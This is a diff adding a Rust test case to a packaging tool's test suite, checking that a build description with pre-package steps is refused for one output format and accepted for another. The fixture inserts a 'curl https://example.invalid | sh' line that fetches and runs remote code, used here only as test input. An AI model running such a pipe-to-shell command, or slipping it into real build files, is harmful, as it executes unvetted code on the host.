@@ -472,6 +472,13 @@ fn what_only_a_build_of_a_dockerfile_could_do_is_named() {
             home.run([command, folder.to_str().unwrap()]).ends(3).says(said).says("EK0905").says("help: ");
         }
     }
+    // Another base takes the place of what is done before the packages, and a bundle has no place to say so.
+    let (from, to) = ("  python_requirements:", "  - curl https://example.invalid | sh\n  python_requirements:");
+    let folder = with_description(&home, NEW, "iris", from, to);
+    let folder = folder.to_str().unwrap();
+    home.run(["pack", folder, "--base", "auto", "-o", "based.ekiben"]).ends(2).says("hint: ");
+    home.run(["pack", folder, "--base", "auto", "-o", "based.bento"]).ok();
+    assert!(!Path::new(&home.path("based.ekiben")).exists());
 }
 
 /// Runs a command on something hostile, with the memory that `most` bytes of addresses allow: it must end in time and
